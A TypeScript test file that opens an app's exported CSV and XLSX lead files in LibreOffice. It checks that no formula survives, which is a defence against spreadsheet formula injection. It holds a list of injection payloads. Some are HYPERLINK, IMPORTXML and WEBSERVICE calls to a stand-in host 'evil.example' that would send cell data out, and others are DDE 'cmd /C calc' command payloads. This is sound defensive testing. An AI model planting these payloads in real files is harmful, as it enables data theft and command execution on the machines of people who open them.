import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COLUMN_IDS } from '../../lib/domain/export/columns.ts';
import type { Separator } from '../../lib/domain/export/csv.ts';
import type { StoredLead } from '../../lib/domain/lead/stored-lead.ts';
import { makeFile } from '../../lib/ui/export/make-file.ts';
import { fullLead, words } from '../domain/export/leads.ts';

/** A real spreadsheet program opens what we export. `npm test` installs it where it may; elsewhere this is skipped, and says so. */
const hasProgram = spawnSync('soffice', ['--version'], { stdio: 'ignore' }).status === 0;
if (!hasProgram)
  process.stderr.write('LibreOffice is not on this machine: no exported file is opened in a spreadsheet program.\n');

const PAYLOADS = [
  '=1+1',
  '=1+1;x',
  '="a"&"b"',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '=IMPORTXML("http://evil.example/","//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("cmd";"/C calc";"x")',
  "=cmd|' /C calc'!A0",
  "+cmd|'/C calc'!A0",
  '-2+3',
  '+1+1',
  '--1',
  '@SUM(1+1)',
  '@SUM(1+1)*cmd',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '\uFEFF=1+1',
  '"=1+1',
  '""=1+1',
  '"\n=1+1',
  "'=1+1",
  '＝1+1',
  '＋1+1',
  '＠SUM(1+1)',
  'x,=SUM(1;1)',
  'x;=SUM(1,1)',
  'x\t=SUM(1,1)',
  'x\n=SUM(1,1)',
  'x\r\n=SUM(1,1)',
  'x";=SUM(1,1);"',
  'x",=SUM(1;1),"',
  'x"\r\n"=1+1',
  'x\n=1&',
  'x\n=1+1',
  'x,-SUM(1;1)',
  'x;@SUM(1,1)',
] as const;

/** Each payload in every place that a feed can write to. */
function attackedLead(text: string): StoredLead {
  const lead = fullLead();
  const value = { raw: text, code: null, label: text };
  const all = <Part extends object>(part: Part): Part =>
    Object.fromEntries(Object.entries(part).map(([key, one]) => [key, typeof one === 'string' ? text : one])) as Part;
  return {
    ...lead,
    feed: {
      ...lead.feed,
      person: { ...all(lead.feed.person), visitorType: 'professional', phone: '', phoneRaw: text },
      company: { ...all(lead.feed.company), type: value, sector: value },
      address: { ...all(lead.feed.address), country: null, countryRaw: text },
      need: all(lead.feed.need),
      recipient: all(lead.feed.recipient),
      products: [{ id: text, name: text, url: text }],
      message: text,
      feedId: text,
    },
  };
}

const making = { words, columnName: String, now: 0 };

async function* leads(): AsyncGenerator<StoredLead[]> {
  yield PAYLOADS.map(attackedLead);
}

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'leadstand-formulas-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Read with this separator, with everything that looks like a formula taken for one. */
const csvWith = (separator: string): string =>
  `CSV:${separator.charCodeAt(0)},34,76,1,,0,false,true,false,false,false,-1,true`;

/** What the program makes of a file: its cells, and the formulas among them. */
function opened(name: string, content: string | Uint8Array, filter?: string): { cells: number; formulas: string[] } {
  const file = join(folder, name);
  writeFileSync(file, content);
  const { status, stderr } = spawnSync(
    'soffice',
    [
      `-env:UserInstallation=file://${folder}/profile`,
      '--headless',
      ...(filter ? [`--infilter=${filter}`] : []),
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      file,
    ],
    { encoding: 'utf8', timeout: 120_000 },
  );
  if (status !== 0) throw new Error(`LibreOffice could not open ${name}: ${stderr}`);
  const sheet = readFileSync(file.replace(/\.\w+$/, '.fods'), 'utf8');
  return {
    cells: sheet.match(/office:value-type=/g)?.length ?? 0,
    formulas: [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula!),
  };
}

describe.skipIf(!hasProgram)('threat 16: a file that is opened in a spreadsheet program', () => {
  it('threat 16: would have formulas in it if it were written as it comes', () => {
    const naive = PAYLOADS.map((text) => `"${text.replaceAll('"', '""')}"\r\n`).join('');
    expect(opened('naive.csv', naive, csvWith(',')).formulas.length).toBeGreaterThan(5);
  }, 180_000);

  it.each([
    [',', ','],
    [';', ';'],
    [',', ';'],
    [';', ','],
    [',', '\t'],
  ] as [Separator, string][])(
    'threat 16: has no formula in it, written with %j and read with %j',
    async (written, read) => {
      const file = await makeFile(leads(), { format: 'csv', columns: new Set(COLUMN_IDS), separator: written }, making);
      const name = `csv-${written.charCodeAt(0)}-${read.charCodeAt(0)}.csv`;
      const { cells, formulas } = opened(name, await file.text(), csvWith(read));
      expect(cells).toBeGreaterThan(PAYLOADS.length);
      expect(formulas).toEqual([]);
    },
    180_000,
  );

  it('threat 16: has none as a workbook either', async () => {
    const file = await makeFile(leads(), { format: 'xlsx', columns: new Set(COLUMN_IDS), separator: ',' }, making);
    const { cells, formulas } = opened('book.xlsx', new Uint8Array(await file.arrayBuffer()));
    expect(cells).toBeGreaterThan(PAYLOADS.length * 10);
    expect(formulas).toEqual([]);
  }, 180_000);
});
